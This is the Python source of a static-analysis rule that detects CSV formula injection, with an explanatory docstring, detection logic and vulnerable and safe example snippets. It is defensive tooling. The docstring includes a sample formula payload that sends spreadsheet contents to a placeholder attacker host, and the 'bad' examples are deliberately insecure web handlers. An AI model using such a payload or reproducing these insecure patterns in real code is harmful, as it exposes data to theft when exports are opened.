"""Input that is written into a table runs as a formula in the spreadsheet that opens it.

## Why it matters
A cell that begins with `=`, `+`, `-` or `@` is a formula to a spreadsheet.  A user who is called
`=HYPERLINK("https://evil.example/?"&A2)` sends what stands in the export to a stranger as soon as the person in charge
opens it; older versions run programs.  Assistants write what the form or the database holds with `writerow`, because
CSV is only text.

## How to fix it
Put a quote in front of what would be a formula:

    def cell(text: str) -> str:
        return f"'{text}" if text.startswith(("=", "+", "-", "@", "\\t", "\\r")) else text

    writer.writerow([cell(name), cell(comment)])

## When it is fine
When no spreadsheet opens the file, or the values are numbers.

## References
- [OWASP: CSV injection](https://owasp.org/www-community/attacks/CSV_Injection)
"""

from __future__ import annotations

import ast
from collections.abc import Iterator
from typing import Final

from vetline.core.cwe import Cwe
from vetline.core.severity import Confidence, Severity
from vetline.rules.base import CheckContext, Example, Match, Rule
from vetline.rules.flows import flow_into, of_labels

_LABELS: Final = of_labels(Severity.MEDIUM, "remote", "upload", stored=Severity.LOW)
_SIGNS: Final = frozenset("=+-@")


def check(context: CheckContext) -> Iterator[Match]:
    for hit in context.sinks("csv"):
        if (flow := flow_into(hit, _LABELS)) is None or _looks_for_formulas(context):
            continue
        yield flow.match(
            "A table gets {source} as it is: a cell that begins with `=`, `+`, `-` or `@` runs as a formula in a spreadsheet.",
            confidence=min(flow.confidence, Confidence.MEDIUM if flow.severity is Severity.MEDIUM else Confidence.LOW),
        )


def _looks_for_formulas(context: CheckContext) -> bool:
    """Tell whether the code around asks what a text begins with, by signs that formulas begin with."""
    for node in context.walk(ast.Call, ast.Compare):
        match node:
            case ast.Call(func=ast.Attribute(attr="startswith" | "lstrip"), args=[signs]):
                pass
            case ast.Compare(ops=[ast.In() | ast.NotIn()], comparators=[signs]):
                pass
            case _:
                continue
        value = context.value(signs)
        known = {item.constant for item in (value.items or {}).values()} if value.items else set(value.constants or ())
        texts = {one for one in known if isinstance(one, str)}
        if len(_SIGNS & set("".join(texts))) >= 2 and all(len(one) <= 12 for one in texts):
            return True
    return False


RULE = Rule(
    id="VET124",
    name="csv-formula-injection",
    cwe=Cwe(1236),
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    message="A table's cells contain what the request says.",
    bad=(
        Example(
            "import csv\n\nfrom flask import Flask, request\n\napp = Flask(__name__)\n\n\n"
            "@app.post('/feedback')\ndef feedback():\n    with open('feedback.csv', 'a', newline='') as file:\n"
            "        csv.writer(file).writerow([request.form['name'], request.form['text']])\n    return 'thanks'\n"
        ),
        Example(
            "import csv\nimport io\n\n\ndef export(request):\n    buffer = io.StringIO()\n"
            "    writer = csv.DictWriter(buffer, ['name'])\n"
            "    writer.writerow({'name': request.POST['name']})\n    return buffer.getvalue()\n"
        ),
        Example(
            "import csv\n\nfrom fastapi import FastAPI\n\napp = FastAPI()\n\n\n"
            "@app.post('/add')\ndef add(title: str, price: float):\n    with open('items.csv', 'a') as file:\n"
            "        writer = csv.writer(file)\n        row = [title, price]\n        writer.writerow(row)\n    return {}\n"
        ),
        Example(
            "import csv\nimport sqlite3\nimport sys\n\n\ndef dump():\n"
            "    rows = sqlite3.connect('shop.db').execute('SELECT * FROM customers').fetchall()\n"
            "    csv.writer(sys.stdout).writerows(rows)\n"
        ),
        Example(
            "import csv\n\nfrom flask import request\n\n\ndef save(path):\n"
            "    lines = [[entry, '1'] for entry in request.json]\n"
            "    with open(path, 'w') as file:\n        csv.writer(file, delimiter=';').writerows(lines)\n"
        ),
    ),
    good=(
        (
            "import csv\n\nfrom flask import request\n\n\ndef cell(text):\n"
            "    return \"'\" + text if text.startswith(('=', '+', '-', '@')) else text\n\n\n"
            "def save(file):\n    csv.writer(file).writerow([int(request.form['age'])])\n"
        ),
        (
            "import csv\n\nfrom flask import request\n\n\ndef save(file):\n    name = request.form['name']\n"
            "    if name[:1] in '=+-@':\n        name = \"'\" + name\n    csv.writer(file).writerow([name])\n"
        ),
        (
            "import csv\n\n\ndef table(file, rows):\n    writer = csv.writer(file)\n    writer.writerow(['name', 'count'])\n"
            "    writer.writerows(rows)\n"
        ),
        (
            "import csv\n\nfrom fastapi import FastAPI\n\napp = FastAPI()\n\n\n"
            "@app.post('/add')\ndef add(count: int, price: float):\n    with open('items.csv', 'a') as file:\n"
            "        csv.writer(file).writerow([count, price])\n    return {}\n"
        ),
        (
            "import csv\n\nfrom flask import abort, request\n\n\ndef save(file):\n    name = request.form['name']\n"
            "    if not name.isalnum():\n        abort(400)\n    csv.writer(file).writerow([name])\n"
        ),
    ),
    check=check,
    why_no_fix="Whether a spreadsheet opens the table, and what a cell that begins with a sign should become, only you know.",
)
